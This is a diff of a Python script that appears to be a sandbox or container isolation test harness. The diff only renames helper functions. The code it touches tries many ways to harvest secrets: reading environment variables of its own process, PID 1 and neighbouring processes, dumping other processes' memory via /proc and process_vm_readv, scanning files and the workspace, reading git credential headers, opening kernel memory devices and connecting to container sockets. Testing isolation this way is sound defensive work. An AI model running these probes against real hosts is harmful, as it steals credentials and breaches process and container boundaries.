@@ -10,7 +10,7 @@ import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 
-from harness import LOG, attempt, each, neighbours, secret_in
+from harness import LOG, attempt, find_secret, first_success, neighbours
 
 LIBC = ctypes.CDLL(None, use_errno=True)
 PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
@@ -30,33 +30,35 @@ def _of_neighbours(name: str) -> list[Path]:
 
 @attempt(GOAL)
 def own_environment() -> object:
-    return secret_in(b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items()))
+    return find_secret(b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items()))
 
 
 @attempt(GOAL)
 def own_environment_at_start() -> object:
-    return secret_in(Path("/proc/self/environ").read_bytes())
+    return find_secret(Path("/proc/self/environ").read_bytes())
 
 
 @attempt(GOAL)
 def environment_of_process_1() -> object:
-    return secret_in(Path("/proc/1/environ").read_bytes())
+    return find_secret(Path("/proc/1/environ").read_bytes())
 
 
 @attempt(GOAL)
 def environment_of_others() -> object:
-    return each(_of_neighbours("environ"), lambda path: path.read_bytes() and (path.parent / "cmdline").read_bytes())
+    return first_success(
+        _of_neighbours("environ"), lambda path: path.read_bytes() and (path.parent / "cmdline").read_bytes()
+    )
 
 
 @attempt(GOAL)
 def environment_of_threads() -> object:
     paths = [path for pid in neighbours() for path in Path(f"/proc/{pid}/task").glob("*/environ")]
-    return each(paths, lambda path: bool(path.read_bytes()))
+    return first_success(paths, lambda path: bool(path.read_bytes()))
 
 
 @attempt(GOAL)
 def command_lines() -> object:
-    return each(_of_neighbours("cmdline"), lambda path: secret_in(path.read_bytes()))
+    return first_success(_of_neighbours("cmdline"), lambda path: find_secret(path.read_bytes()))
 
 
 def _regions(pid: int) -> Iterator[tuple[int, int]]:
@@ -72,11 +74,11 @@ def memory_by_proc() -> object:
         with path.open("rb", buffering=0) as memory:
             for start, end in _regions(int(path.parts[2])):
                 memory.seek(start)
-                if secret := secret_in(memory.read(end - start)):
+                if secret := find_secret(memory.read(end - start)):
                     return secret
         return None
 
-    return each(_of_neighbours("mem"), read)
+    return first_success(_of_neighbours("mem"), read)
 
 
 @attempt(GOAL)
@@ -95,7 +97,7 @@ def memory_by_process_vm_readv() -> object:
 
 @attempt(GOAL)
 def memory_maps() -> object:
-    return each(_of_neighbours("maps"), lambda path: bool(path.read_bytes()))
+    return first_success(_of_neighbours("maps"), lambda path: bool(path.read_bytes()))
 
 
 @attempt(GOAL)
@@ -155,28 +157,28 @@ def secrets_in_files() -> object:
                 yield from (str(Path(folder, name)) for name in names)
 
     def read(path: Path) -> object:
-        return path.is_file() and path.stat().st_size < 1 << 22 and secret_in(path.read_bytes())
+        return path.is_file() and path.stat().st_size < 1 << 22 and find_secret(path.read_bytes())
 
-    return each([Path(path) for path in scan()], read)
+    return first_success([Path(path) for path in scan()], read)
 
 
 @attempt(GOAL)
 def secrets_in_the_workspace() -> object:
     def read(path: Path) -> object:
-        return path.is_file() and secret_in(path.read_bytes())
+        return path.is_file() and find_secret(path.read_bytes())
 
-    return each([path for path in Path().rglob("*") if path.suffix != ".py" and path != LOG], read)
+    return first_success([path for path in Path().rglob("*") if path.suffix != ".py" and path != LOG], read)
 
 
 @attempt(GOAL)
 def credentials_of_git() -> object:
     listing = subprocess.run(["git", "config", "--list"], capture_output=True, check=False).stdout
-    return secret_in(listing) or re.search(rb"extraheader", listing)
+    return find_secret(listing) or re.search(rb"extraheader", listing)
 
 
 @attempt(GOAL)
 def kernel_memory() -> object:
-    return each(
+    return first_success(
         [Path(f"/{name}") for name in ("proc/kcore", "dev/mem", "dev/kmem", "proc/kmsg")],
         lambda p: p.open("rb").read(1),
     )
@@ -191,7 +193,7 @@ def container_sockets() -> object:
             sock.connect(str(path))
             return "connected"
 
-    return each(paths, connect)
+    return first_success(paths, connect)
 
 
 @attempt(GOAL)
